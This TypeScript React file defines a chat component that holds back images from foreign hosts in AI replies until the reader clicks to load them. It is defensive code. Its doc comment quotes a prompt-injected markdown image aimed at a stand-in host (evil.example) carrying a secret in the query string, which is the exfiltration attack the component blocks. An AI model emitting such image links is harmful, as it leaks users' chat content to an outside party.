import { ImageOff } from 'lucide-react';
import type { ComponentProps } from 'react';
import { useTranslation } from 'react-i18next';
import { FileImage, storedFileId } from '../../files/file-image.tsx';
import { allowImage, useAllowedImages } from './allowed-images.ts';
import { foreignImageHost } from './foreign-image-host.ts';

/**
 * An image of a reply. One from another host is not fetched until the reader asks: a
 * prompt-injected `![](https://evil.example/?q=<secret>)` would otherwise send chat content to
 * that host the moment it rendered. Once allowed, it shows for the rest of the page's life (and in the PNG export).
 */
export function MarkdownImage({ node: _node, src, alt, ...props }: ComponentProps<'img'> & { node?: unknown }) {
  const { t } = useTranslation();
  const source = typeof src === 'string' ? src : undefined;
  const allowed = useAllowedImages((s) => source !== undefined && s.sources.has(source));
  const stored = storedFileId(source);
  const host = source ? foreignImageHost(source) : undefined;
  if (stored) return <FileImage id={stored} alt={alt} />;
  if (!source || !host || allowed) return <img src={source} alt={alt} {...props} />;
  return (
    <button
      type="button"
      data-testid="remote-image"
      // Not in the PNG export: a picture the reader did not load stays out of it too.
      data-export-chrome
      onClick={() => source && allowImage(source)}
      className="my-2 inline-flex max-w-full flex-col items-start gap-1 rounded-lg border border-dashed border-gray-300 px-3 py-2 text-left text-sm hover:bg-gray-50 dark:border-gray-600 dark:hover:bg-gray-800"
    >
      <span className="inline-flex items-center gap-2 font-medium">
        <ImageOff aria-hidden className="size-4 shrink-0" />
        <span className="break-all">{t('chat.message.remote_image', { host })}</span>
      </span>
      {alt ? <span className="text-xs opacity-80">{alt}</span> : null}
      <span className="text-xs opacity-70">{t('chat.message.remote_image_why')}</span>
    </button>
  );
}
